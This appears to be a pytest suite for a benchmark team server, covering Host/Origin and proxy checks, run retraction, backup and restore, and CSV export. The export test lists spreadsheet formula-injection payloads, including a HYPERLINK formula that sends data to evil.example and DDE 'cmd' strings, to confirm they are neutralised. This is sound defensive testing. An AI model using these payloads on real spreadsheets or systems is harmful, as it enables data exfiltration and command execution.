"""A team server's writes: Host/Origin checks, a same-host proxy gets nothing, retraction (API and CLI) by the
uploader or an admin only, backup -> restore, and the Regressions CSV safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import socket
import threading
import time

import httpx
import pytest
import uvicorn
from sqlalchemy import text
from starlette.applications import Starlette
from starlette.testclient import TestClient

import api.query
import api.upload
import db.store.engine
import db.store.tables
from api.auth import protect_routes
from api.errors import guard_routes
from db.cli import main as db_cli
from db.views.exports.review_export import review_csv
from tests.bundles import make_bundle, make_result
from tests.store_fixtures import server_store

JSON = {"content-type": "application/json"}
TOKENS = {"ci-mac-1": "tok-ci", "alice": "tok-alice", "ops": "tok-ops"}
BASELINE_BUILD = {
    "torch_version": "2.14.1",
    "channel": "stable",
    "python_version": "3.11.7",
    "collector_version": "0.1.0",
}


@pytest.fixture
def store(tmp_path, monkeypatch):
    with server_store(
        monkeypatch,
        tmp_path / "team.duckdb",
        MPSBENCH_UPLOAD_TOKENS=f"ci-mac-1={TOKENS['ci-mac-1']},alice={TOKENS['alice']}",
        MPSBENCH_ADMIN_TOKENS=f"ops={TOKENS['ops']}",
    ):
        yield db.store.engine.shared_store()


def _app() -> Starlette:
    return Starlette(
        routes=guard_routes(protect_routes(api.upload.ROUTES + api.query.ROUTES))
    )  # as app.api_routes() mounts them


def _client(host: str = "127.0.0.1:8501") -> TestClient:
    return TestClient(_app(), base_url=f"http://{host}", client=("127.0.0.1", 50000))


def _auth(name: str) -> dict:
    return {"authorization": f"Bearer {TOKENS[name]}"}


def _count(engine, table: str) -> int:
    with engine.connect() as conn:
        return conn.execute(text(f"SELECT count(*) FROM {table}")).scalar()


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"host": "evil.example"}, 403),  # DNS rebinding: evil.example resolved to 127.0.0.1
        ({"host": "evil.example:8501"}, 403),
        ({"host": "127.0.0.1:8501", "origin": "http://evil.example"}, 403),
        ({"host": "127.0.0.1:8501", "origin": "null"}, 403),
        ({"host": "evil.example", "x-forwarded-host": "localhost"}, 403),  # not from a trusted proxy: ignored
        ({"host": "localhost:8501", "origin": "http://localhost:8501"}, 201),
        ({"host": "[::1]:8501"}, 201),
    ],
)
def test_host_and_origin_are_checked_before_anything_else(store, headers, status):
    bundle = make_bundle()
    response = _client().post("/api/v1/runs", content=json.dumps(bundle), headers=JSON | _auth("alice") | headers)
    assert response.status_code == status, response.text
    if status == 403:
        body = response.json()
        assert body["ok"] is False and body["errors"][0]["field"] in ("Host", "Origin")
        assert _count(store, "runs") == 0
    read = _client().get("/api/v1/runs", headers=headers)
    assert read.status_code == (403 if status == 403 else 200)


def test_allowed_hosts_and_a_trusted_proxys_forwarded_host(store, monkeypatch):
    monkeypatch.setenv("MPSBENCH_ALLOWED_HOSTS", "bench.example.com")
    assert _client().get("/api/v1/runs", headers={"host": "bench.example.com"}).status_code == 200
    forwarded = {"host": "127.0.0.1:9000", "x-forwarded-host": "evil.example"}
    assert _client().get("/api/v1/runs", headers=forwarded).status_code == 200  # untrusted: the header is ignored
    monkeypatch.setenv("MPSBENCH_TRUSTED_PROXIES", "127.0.0.1")
    assert _client().get("/api/v1/runs", headers=forwarded).status_code == 403  # trusted: its word counts


def test_reads_need_a_token_only_when_read_tokens_are_set(store, monkeypatch):
    assert _client().get("/api/v1/runs").status_code == 200
    monkeypatch.setenv("MPSBENCH_READ_TOKENS", "dash=tok-read")
    assert _client().get("/api/v1/runs").status_code == 401
    assert _client().get("/api/v1/runs", headers={"authorization": "Bearer tok-read"}).status_code == 200
    assert _client().get("/api/v1/runs", headers=_auth("alice")).status_code == 200  # a writer may read
    refused = _client().post(
        "/api/v1/runs", content=json.dumps(make_bundle()), headers=JSON | {"authorization": "Bearer tok-read"}
    )
    assert refused.status_code == 403 and _count(store, "runs") == 0


# --- a same-host reverse proxy that forwards without X-Forwarded-For (or with a forged one) --------------------


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class _Server(uvicorn.Server):
    def install_signal_handlers(self) -> None:  # runs in a thread
        pass


def _proxy(upstream: str) -> Starlette:
    """A minimal reverse proxy: passes method, path, body and headers through (Host kept), adds nothing."""
    from starlette.requests import Request
    from starlette.responses import Response
    from starlette.routing import Route

    async def forward(request: Request) -> Response:
        headers = {k: v for k, v in request.headers.items() if k not in ("content-length", "transfer-encoding")}
        async with httpx.AsyncClient() as client:
            got = await client.request(
                request.method, upstream + request.url.path, headers=headers, content=await request.body()
            )
        return Response(got.content, got.status_code, media_type=got.headers.get("content-type"))

    return Starlette(routes=[Route("/{path:path}", forward, methods=["GET", "POST", "DELETE"])])


@pytest.fixture
def proxied(store):
    """The API on 127.0.0.1 and a proxy to it on 127.0.0.1: both started (and stopped) here."""
    servers, threads = [], []
    app_port, proxy_port = _free_port(), _free_port()
    for app, port in ((_app(), app_port), (_proxy(f"http://127.0.0.1:{app_port}"), proxy_port)):
        server = _Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
        thread = threading.Thread(target=server.run, daemon=True)
        thread.start()
        servers.append(server)
        threads.append(thread)
    deadline = time.monotonic() + 30
    while not all(s.started for s in servers):
        assert time.monotonic() < deadline, "the test servers did not start in 30 s"
        time.sleep(0.05)
    yield f"http://127.0.0.1:{proxy_port}", f"http://127.0.0.1:{app_port}"
    for server in servers:
        server.should_exit = True
    for thread in threads:
        thread.join(timeout=10)


@pytest.mark.parametrize("forged", [{}, {"x-forwarded-for": "127.0.0.1"}, {"x-real-ip": "127.0.0.1"}])
def test_a_same_host_proxy_without_token_is_refused_and_nothing_stored(proxied, store, forged):
    proxy, _ = proxied
    bundle = make_bundle()
    response = httpx.post(proxy + "/api/v1/runs", content=json.dumps(bundle), headers=JSON | forged, timeout=30)
    assert response.status_code == 401 and response.json()["errors"][0]["field"] == "Authorization"
    assert _count(store, "runs") == 0
    through = httpx.post(
        proxy + "/api/v1/runs", content=json.dumps(bundle), headers=JSON | _auth("ci-mac-1"), timeout=30
    )
    assert through.status_code == 201 and _count(store, "runs") == 1


def test_a_proxy_passing_another_host_name_is_refused(proxied, store):
    proxy, _ = proxied
    response = httpx.get(proxy + "/api/v1/runs", headers={"host": "bench.example.com"}, timeout=30)
    assert response.status_code == 403 and response.json()["errors"][0]["field"] == "Host"


# --- retraction -----------------------------------------------------------------------------------------------


def _three_runs(client) -> dict:
    """A baseline (2.14.1) and two candidate runs (2.15.0rc1): alice's is 10× slower on op_time."""
    runs = {
        "base": make_bundle(build=BASELINE_BUILD),
        "ci": make_bundle(),
        "alice": make_bundle(results=[make_result(samples=[71.0, 73.0, 72.0, 90.0])]),
    }
    for key, who in (("base", "ci-mac-1"), ("ci", "ci-mac-1"), ("alice", "alice")):
        assert client.post("/api/v1/runs", content=json.dumps(runs[key]), headers=JSON | _auth(who)).status_code == 201
    return {k: b["run_id"] for k, b in runs.items()}


def _op_time_case(client) -> dict:
    cases = client.get("/api/v1/compare", params={"baseline": "torch=2.14.1", "candidate": "torch=2.15.0rc1"})
    return next(
        c
        for c in cases.json()["cases"]
        if c["metric"] == "op_time" and c["unit"] == "µs" and json.loads(c["case_key"]) == {"rows": 1, "vocab": 128256}
    )


def test_retract_by_another_uploader_is_403_by_the_owner_200_and_the_run_leaves_compare(store):
    client = _client()
    ids = _three_runs(client)
    before = _op_time_case(client)  # candidate: ci's op_time result of the case and alice's
    assert (before["candidate_pooled"], before["candidate_n"]) == (2, 8)
    assert before["candidate_median"] > before["baseline_median"]
    url = f"/api/v1/runs/{ids['alice']}"
    for who in ("ci-mac-1", None):
        refused = client.request("DELETE", url, json={"reason": "not mine"}, headers=_auth(who) if who else {})
        assert refused.status_code == (403 if who else 401), refused.text
    assert client.request("DELETE", url, json={}, headers=_auth("alice")).json()["errors"][0]["field"] == "reason"
    assert _count(store, "results") == 13  # nothing changed by the refusals (6 + 6 + 1)
    done = client.request("DELETE", url, json={"reason": "ran on battery"}, headers=_auth("alice"))
    assert done.status_code == 200 and done.json()["retracted_by"] == "alice"
    case = _op_time_case(client)
    assert (case["candidate_pooled"], case["candidate_n"]) == (1, 4)
    assert case["candidate_median"] == case["baseline_median"]  # ci's samples are the baseline's
    listed = {r["run_id"]: r for r in client.get("/api/v1/runs").json()["runs"]}
    assert len(listed) == 3  # still listed, with who, when and why
    assert (listed[ids["alice"]]["retracted_by"], listed[ids["alice"]]["retraction_reason"]) == (
        "alice",
        "ran on battery",
    )
    assert listed[ids["alice"]]["uploaded_by"] == "alice" and listed[ids["alice"]]["retracted_at"]
    assert listed[ids["ci"]]["retracted_at"] is None
    again = client.request("DELETE", url, json={"reason": "twice"}, headers=_auth("alice"))
    assert again.status_code == 409
    only = client.get("/api/v1/compare", params={"baseline": "torch=2.14.1", "candidate": f"runs:{ids['alice']}"})
    assert only.json().get("cases", []) == []


def test_an_admin_may_retract_any_run_and_unknown_runs_are_404(store):
    client = _client()
    ids = _three_runs(client)
    done = client.request("DELETE", f"/api/v1/runs/{ids['ci']}", json={"reason": "bad build"}, headers=_auth("ops"))
    assert done.status_code == 200 and done.json()["retracted_by"] == "ops"
    assert (
        client.request("DELETE", f"/api/v1/runs/{'0' * 32}", json={"reason": "x"}, headers=_auth("ops")).status_code
        == 404
    )
    assert (
        client.request("DELETE", "/api/v1/runs/NOT-A-RUN", json={"reason": "x"}, headers=_auth("ops")).status_code
        == 422
    )


def test_cli_retract_against_the_local_store_and_against_a_server(proxied, store, monkeypatch, capsys):
    _, server = proxied
    ids = _three_runs(_client())
    assert db_cli(["retract", ids["alice"], "--reason", "thermal throttling"]) == 0
    assert "retracted by cli:" in capsys.readouterr().out
    monkeypatch.setenv("MPSBENCH_TOKEN", TOKENS["alice"])
    assert db_cli(["retract", ids["ci"], "--reason", "x", "--url", server]) == 1  # alice did not upload it
    out = capsys.readouterr().out
    assert out.startswith("ERROR: the server answered 403")
    monkeypatch.setenv("MPSBENCH_TOKEN", TOKENS["ci-mac-1"])
    assert db_cli(["retract", ids["ci"], "--reason", "wrong flags", "--url", server]) == 0
    with store.connect() as conn:
        found = dict(conn.execute(text("SELECT run_id, retracted_by FROM runs")).fetchall())
    assert found[ids["ci"]] == "ci-mac-1" and found[ids["alice"]].startswith("cli:") and found[ids["base"]] is None


# --- backup and restore ---------------------------------------------------------------------------------------


def _dump(path) -> dict:
    engine = db.store.engine.open_store(str(path))
    try:
        with engine.connect() as conn:
            tables = [r[0] for r in conn.execute(text("SELECT table_name FROM information_schema.tables"))]
            return {t: sorted(map(repr, conn.execute(text(f"SELECT * FROM {t}")).fetchall())) for t in tables}
    finally:
        engine.dispose()


def test_backup_then_restore_gives_the_same_rows_and_refuses_non_empty_targets(store, tmp_path, monkeypatch, capsys):
    client = _client()
    ids = _three_runs(client)
    client.request("DELETE", f"/api/v1/runs/{ids['alice']}", json={"reason": "r"}, headers=_auth("alice"))
    path = tmp_path / "team.duckdb"
    store.dispose()  # the server stopped: one process per DuckDB file
    before = _dump(path)
    assert (
        set(before) >= {"runs", "results", "retracted_results", "review_notes"} and len(before["results"]) == 12
    )  # alice's one moved aside
    assert db_cli(["backup", str(tmp_path / "bk")]) == 0
    assert db_cli(["backup", str(tmp_path / "bk")]) == 1 and "not an empty folder" in capsys.readouterr().out
    monkeypatch.setenv("MPSBENCH_DB", str(tmp_path / "restored.duckdb"))
    assert db_cli(["restore", str(tmp_path / "bk")]) == 0
    assert _dump(tmp_path / "restored.duckdb") == before
    capsys.readouterr()
    assert db_cli(["restore", str(tmp_path / "bk")]) == 1 and "restore into a new file" in capsys.readouterr().out
    assert db_cli(["restore", str(tmp_path / "nothing")]) == 1 and "not an mpsbench backup" in capsys.readouterr().out


# --- exports --------------------------------------------------------------------------------------------------

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\rCR first",
    "bare\rcarriage return",
    "line\nfeed",
    "crlf\r\ninside",
]


def test_regressions_csv_neutralises_formulas_and_quotes_every_cr_and_lf():
    import pandas as pd

    frame = pd.DataFrame({"comment": HOSTILE_CELLS + ["plain"], "change_pct": [-5.5] * 9 + [3.0]})
    out = review_csv(frame)
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert len(rows) == len(frame) + 1  # a bare CR does not split a row
    read = [r[0] for r in rows[1:]]
    expected = ["'" + c if c[0] in "=+-@\t\r" else c for c in HOSTILE_CELLS] + ["plain"]
    assert read == expected
    assert [r[1] for r in rows[1:]] == ["-5.5"] * 9 + ["3.0"]  # numbers stay numbers
    assert '"bare\rcarriage return"' in out and '"line\nfeed"' in out


def test_a_v4_store_gains_the_uploader_and_retraction_columns_and_only_an_admin_retracts_its_runs(store, tmp_path):
    client = _client()
    ids = _three_runs(client)
    with store.begin() as conn:  # back to a v4 layout: none of the v5 columns
        for column in ("uploaded_by", "retracted_at", "retracted_by", "retraction_reason"):
            conn.execute(text(f"ALTER TABLE runs DROP COLUMN {column}"))
        conn.execute(text("UPDATE meta SET value = '4' WHERE key = 'store_version'"))
    store.dispose()
    engine = db.store.engine.open_store(str(tmp_path / "team.duckdb"))
    try:
        with engine.connect() as conn:
            version = conn.execute(text("SELECT value FROM meta WHERE key = 'store_version'")).scalar()
            owners = {r[0] for r in conn.execute(text("SELECT uploaded_by FROM runs"))}
        assert version == str(db.store.tables.STORE_VERSION) and owners == {None}
    finally:
        engine.dispose()
    url = f"/api/v1/runs/{ids['alice']}"
    assert client.request("DELETE", url, json={"reason": "r"}, headers=_auth("alice")).status_code == 403
    assert client.request("DELETE", url, json={"reason": "r"}, headers=_auth("ops")).status_code == 200


def test_the_whole_servers_host_check_covers_its_websocket_too():
    """app.py wraps every route (pages, their websocket, the API) in api.auth.HostCheck."""
    from starlette.middleware import Middleware
    from starlette.routing import WebSocketRoute
    from starlette.websockets import WebSocketDisconnect

    from api.auth import HostCheck

    async def echo(ws):
        await ws.accept()
        await ws.send_text("hello")
        await ws.close()

    server = Starlette(routes=[WebSocketRoute("/_stcore/stream", echo)], middleware=[Middleware(HostCheck)])
    with TestClient(server).websocket_connect("/_stcore/stream", headers={"host": "127.0.0.1:8501"}) as ws:
        assert ws.receive_text() == "hello"
    for headers in ({"host": "evil.example"}, {"host": "127.0.0.1:8501", "origin": "http://evil.example"}):
        with pytest.raises(WebSocketDisconnect) as closed:
            with TestClient(server).websocket_connect("/_stcore/stream", headers=headers) as ws:
                ws.receive_text()
        assert closed.value.code == 1008
